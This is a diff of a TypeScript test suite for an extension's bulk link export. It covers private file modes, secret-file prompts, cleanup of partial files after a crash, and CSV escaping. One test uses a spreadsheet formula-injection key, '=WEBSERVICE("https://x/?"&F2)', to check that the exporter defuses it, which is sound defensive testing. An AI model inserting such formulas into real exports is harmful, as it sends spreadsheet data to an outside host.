@@ -1,5 +1,5 @@
 import assert from 'node:assert/strict';
-import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
+import { mkdtemp, readdir, readFile, rm, stat, utimes, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { multipartUploadLinks } from '../../../../src/features/bulk/multipartUploadLinks.ts';
@@ -9,6 +9,8 @@ import { ScriptedPrompts } from '../../../support/ui/scriptedPrompts.ts';
 import { escapeSilently, validityOf, withBench } from '../../../support/features/commandBench.ts';
 
 const VALIDITY = '15 minutes';
+/** Windows has no such modes. */
+const PRIVATE_MODE = process.platform === 'win32' ? 0o666 : 0o600;
 
 describe('links in bulk', () => {
   const bench = withBench();
@@ -38,6 +40,44 @@ describe('links in bulk', () => {
     );
     const [batch] = bench().ledger.list();
     assert.deepEqual([batch?.key, batch?.batchCount, batch?.format, batch?.method], ['', 4, 'jsonl', 'GET']);
+  });
+
+  it('spares the user links in the backups of VS Code: they are shown read-only, saved and copied on demand', async () => {
+    await bench().run('bulkLinks', [await bench().node('docs')], answers('All objects'));
+    const [{ name = '', text } = assert.fail('nothing was opened')] = bench().opened;
+    assert.equal(name, 'docs links.jsonl');
+    bench().activeLinkDocument = { name, text };
+    await bench().run('copyLinkText');
+    assert.equal(bench().clipboard.at(-1), text);
+    const folder = await mkdtemp(path.join(tmpdir(), 'oss-links-bulk-'));
+    try {
+      bench().downloadFolder = folder;
+      await bench().run('saveLinks');
+      assert.equal(await readFile(path.join(folder, name), 'utf8'), text);
+      assert.equal((await stat(path.join(folder, name))).mode & 0o777, PRIVATE_MODE);
+      assert.deepEqual(bench().askedFiles, [{ name, isSecret: true }]);
+    } finally {
+      await rm(folder, { recursive: true });
+    }
+    bench().activeLinkDocument = undefined;
+    await bench().run('saveLinks');
+    assert.equal(bench().askedFiles.length, 1);
+  });
+
+  it('spares the user a formula in a spreadsheet, and programs a changed key', async () => {
+    const key = '=WEBSERVICE("https://x/?"&F2)';
+    await bench().oss.emulator.putObject('logs', key, 'x');
+    const rows: string[] = [];
+    for (const format of ['CSV for spreadsheets', 'CSV, exact']) {
+      await bench().run(
+        'bulkLinks',
+        [await bench().node('logs')],
+        new ScriptedPrompts('All objects', VALIDITY, format),
+      );
+      rows.push(bench().opened.at(-1)?.text ?? '');
+    }
+    assert.match(rows[0] ?? '', /^\uFEFFkey,size,.*\r\n"'=WEBSERVICE/);
+    assert.match(rows[1] ?? '', /^key,size,.*\r\n"=WEBSERVICE/);
   });
 
   it('links only the objects that pass the filter', async () => {
@@ -70,7 +110,7 @@ describe('links in bulk', () => {
   });
 
   it('is silent after Escape at every step', async () =>
-    escapeSilently(bench(), 'bulkLinks', [await bench().node('docs')], ['All objects', VALIDITY, 'CSV']));
+    escapeSilently(bench(), 'bulkLinks', [await bench().node('docs')], ['All objects', VALIDITY, 'CSV, exact']));
 
   describe('above a thousand', () => {
     let saveFolder = '';
@@ -87,10 +127,22 @@ describe('links in bulk', () => {
       assert.equal(text.trimEnd().split('\n').length, 1001);
       assert.match(bench().messages.at(-1) ?? '', /^info: 1,001 links written to logs many links\.txt; they expire /);
       assert.equal(bench().ledger.list()[0]?.batchCount, 1001);
+      assert.deepEqual(bench().askedFiles, [{ name: 'logs many links.txt', isSecret: true }]);
+      assert.equal((await stat(path.join(saveFolder, 'logs many links.txt'))).mode & 0o777, PRIVATE_MODE);
       const [open] = bench().told.at(-1)?.actions ?? [];
       assert.deepEqual(bench().openedFiles, []);
       await open?.run();
       assert.deepEqual(bench().openedFiles, ['logs many links.txt']);
+    });
+
+    it('spares the user links that a crash left behind: parts of the file go at the next run', async () => {
+      const [old, running] = ['logs many links.txt.old.part', 'logs many links.txt.running.part'];
+      for (const name of [old, running]) await writeFile(path.join(saveFolder, name), 'links');
+      const hourAgo = new Date(Date.now() - 3_600_000);
+      await utimes(path.join(saveFolder, old), hourAgo, hourAgo);
+      bench().activeLinkDocument = { name: 'logs many links.txt', text: 'https://example.com/' };
+      await bench().run('saveLinks');
+      assert.deepEqual((await readdir(saveFolder)).sort(), ['logs many links.txt', running]);
     });
 
     it('makes nothing where that is declined', async () => {
@@ -181,9 +233,9 @@ describe('links in bulk', () => {
 
     it('are given up with the upload where no editor opens', async () => {
       const services = bench().services(asked());
-      const editors = { ...services.editors, open: () => Promise.reject(new Error('no editor')) };
+      const linkDocuments = { ...services.linkDocuments, show: () => Promise.reject(new Error('no editor')) };
       const folder = { profileId: 'p1', bucket: 'docs', prefix: '' };
-      await assert.rejects(multipartUploadLinks({ folder }, { ...services, editors }), /no editor/);
+      await assert.rejects(multipartUploadLinks({ folder }, { ...services, linkDocuments }), /no editor/);
       assert.deepEqual(calls(), ['InitiateMultipartUpload 200', 'AbortMultipartUpload 204']);
     });
   });
